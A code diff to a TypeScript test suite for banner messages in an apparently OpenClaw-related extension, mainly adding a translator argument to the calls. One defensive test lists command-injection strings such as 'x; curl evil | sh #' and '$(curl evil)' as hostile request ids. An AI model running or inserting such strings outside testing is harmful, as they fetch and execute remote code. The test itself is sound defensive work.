@@ -3,6 +3,9 @@ import { bannerHeading, bannerSentences, type BannerFacts } from './banner-text'
 import { plainText, type Rich } from './command-values';
 import { KINDS, TITLES, diagnose, type Lockout, type LockoutKind } from './lockout';
 import { parseRelease } from './release';
+import { translatorFor } from './test-i18n';
+
+const t = await translatorFor('en');
 
 const FACTS: BannerFacts = { lockouts: [], release: null, deviceToken: 'stored', clearedKeys: [], clearedAutomatically: false, undo: null, sharedTokenInTab: false };
 
@@ -11,8 +14,8 @@ describe('banner text', () => {
     const seen = new Set<string>();
     for (const kind of Object.keys(TITLES) as LockoutKind[]) {
       const facts = { ...FACTS, lockouts: [{ kind }] };
-      expect(bannerHeading(facts)).toBe(TITLES[kind]);
-      const [sentence] = bannerSentences(facts);
+      expect(bannerHeading(facts, t)).toBe(TITLES[kind]);
+      const [sentence] = bannerSentences(facts, t);
       expect(sentence, kind).toBeTruthy();
       seen.add(plainText(sentence!));
     }
@@ -20,22 +23,22 @@ describe('banner text', () => {
   });
 
   it('fills in the pairing request id', () => {
-    expect(bannerSentences({ ...FACTS, lockouts: [{ kind: 'pairing-required', requestId: 'req-1' }] })[0]).toContainEqual({ code: 'openclaw devices approve req-1' });
+    expect(bannerSentences({ ...FACTS, lockouts: [{ kind: 'pairing-required', requestId: 'req-1' }] }, t)[0]).toContainEqual({ code: 'openclaw devices approve req-1' });
   });
 
   it('says to keep the allowed origins already listed', () => {
-    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'origin-not-allowed' }] });
+    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'origin-not-allowed' }] }, t);
     expect(sentence).toContainEqual({ code: 'gateway.controlUi.allowedOrigins' });
     expect(plainText(sentence!)).toMatch(/keeping the origins already listed/);
   });
 
   it('explains a stale device token reported as a gateway token mismatch', () => {
-    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch' }] });
+    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch' }] }, t);
     expect(plainText(sentence!)).toMatch(/2026\.2\.22 to 2026\.3\.8/);
   });
 
   it('says what was cleared while the gateway token is still wrong', () => {
-    const sentences = bannerSentences({ ...FACTS, lockouts: [{ kind: 'gateway-token-mismatch' }], deviceToken: 'cleared', clearedKeys: ['k'] });
+    const sentences = bannerSentences({ ...FACTS, lockouts: [{ kind: 'gateway-token-mismatch' }], deviceToken: 'cleared', clearedKeys: ['k'] }, t);
     expect(sentences).toHaveLength(2);
     expect(sentences[1]).toContainEqual({ code: 'k' });
   });
@@ -47,7 +50,7 @@ const CLEARED: BannerFacts = { ...FACTS, deviceToken: 'cleared', undo: 'availabl
 describe('page strings never become formatting in the banner', () => {
   it('a key name with backticks stays one code segment, verbatim', () => {
     const key = 'openclaw.device.auth.v1:ws://x`<b>`y`';
-    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: [key] });
+    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: [key] }, t);
     expect(codeSegments(sentence!)).toEqual([
       { code: key },
       { code: 'openclaw gateway auth-token --show' },
@@ -59,14 +62,14 @@ describe('page strings never become formatting in the banner', () => {
 
   it('each key name is its own code segment, and plain text has no stray backticks', () => {
     const keys = ['a`b', '`', '``', 'c'];
-    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: keys, sharedTokenInTab: true });
+    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: keys, sharedTokenInTab: true }, t);
     expect(codeSegments(sentence!)).toEqual(keys.map((key) => ({ code: key })));
     for (const segment of sentence!) if (typeof segment === 'string') expect(segment).not.toContain('`');
   });
 
   it('long key names are cut, and a long list is counted', () => {
     const keys = Array.from({ length: 8 }, (_, i) => `openclaw.device.auth.v1:ws://${String(i).repeat(1024 * 128)}`);
-    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: keys, sharedTokenInTab: true });
+    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: keys, sharedTokenInTab: true }, t);
     const shown = codeSegments(sentence!) as { code: string }[];
     expect(shown).toHaveLength(5);
     for (const { code } of shown) expect(code.length).toBeLessThanOrEqual(200);
@@ -77,7 +80,7 @@ describe('page strings never become formatting in the banner', () => {
   it('only the extension’s own words mark code, for every lock-out', () => {
     for (const kind of Object.keys(TITLES) as LockoutKind[]) {
       for (const deviceToken of ['stored', 'none', 'cleared'] as const) {
-        for (const sentence of bannerSentences({ ...FACTS, deviceToken, clearedKeys: ['k`<i>`'], lockouts: [{ kind }] })) {
+        for (const sentence of bannerSentences({ ...FACTS, deviceToken, clearedKeys: ['k`<i>`'], lockouts: [{ kind }] }, t)) {
           for (const segment of sentence) if (typeof segment === 'string') expect(segment, kind).not.toContain('`');
         }
       }
@@ -87,7 +90,7 @@ describe('page strings never become formatting in the banner', () => {
 
 describe('page data never becomes a shell command in the banner', () => {
   it.each(['x; curl evil | sh #', '$(curl evil)', '`curl evil`', '--latest', 'r'.repeat(129), 'abc\ndef'])('a hostile request id %j is replaced by <requestId>', (requestId) => {
-    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'pairing-required', requestId }] });
+    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'pairing-required', requestId }] }, t);
     expect(sentence).toContainEqual({ code: 'openclaw devices approve <requestId>' });
     expect(sentence).toContainEqual({ code: 'openclaw devices list' });
     expect(plainText(sentence!)).not.toContain(requestId);
@@ -202,8 +205,8 @@ describe.each(DEVICE_TOKEN_STATES)('banner with the device token %s', (deviceTok
     for (const lockouts of LOCKOUT_SETS) {
       for (const clearedAutomatically of [true, false]) {
         const facts: BannerFacts = { ...FACTS, lockouts, deviceToken, undo, clearedAutomatically, clearedKeys: deviceToken === 'cleared' ? ['k'] : [] };
-        const heading = bannerHeading(facts);
-        const sentences = bannerSentences(facts).map(plainText);
+        const heading = bannerHeading(facts, t);
+        const sentences = bannerSentences(facts, t).map(plainText);
         const label = `${heading} | ${JSON.stringify(lockouts)}`;
         expect(new Set(sentences).size, label).toBe(sentences.length);
         // One sentence per lock-out (two readings of one lock-out are one sentence), plus the clear's.
@@ -231,14 +234,14 @@ describe('the uncertain reading', () => {
   const UNCERTAIN: Lockout = { kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch', uncertain: true, otherReading: 'gateway-token-mismatch' };
   it('names both in the heading and in the sentence, and says nothing was cleared', () => {
     const facts = { ...FACTS, lockouts: [UNCERTAIN] };
-    expect(bannerHeading(facts)).toBe('Gateway token mismatch or stale device token');
-    const [sentence] = bannerSentences(facts);
+    expect(bannerHeading(facts, t)).toBe('Gateway token mismatch or stale device token');
+    const [sentence] = bannerSentences(facts, t);
     expect(plainText(sentence!)).toMatch(/nothing was cleared/);
     expect(plainText(sentence!)).toMatch(/First paste the gateway token/);
   });
 
   it('a clear done before a B shows is told without calling that token stale', () => {
-    const sentences = bannerSentences({ ...FACTS, lockouts: [{ kind: 'gateway-token-mismatch' }], deviceToken: 'cleared', clearedKeys: ['k'], undo: 'available', clearedAutomatically: true });
+    const sentences = bannerSentences({ ...FACTS, lockouts: [{ kind: 'gateway-token-mismatch' }], deviceToken: 'cleared', clearedKeys: ['k'], undo: 'available', clearedAutomatically: true }, t);
     expect(plainText(sentences[1]!)).toBe('Before this error, the extension cleared this page’s saved device token (k); a backup is kept, and Undo puts it back.');
   });
 });
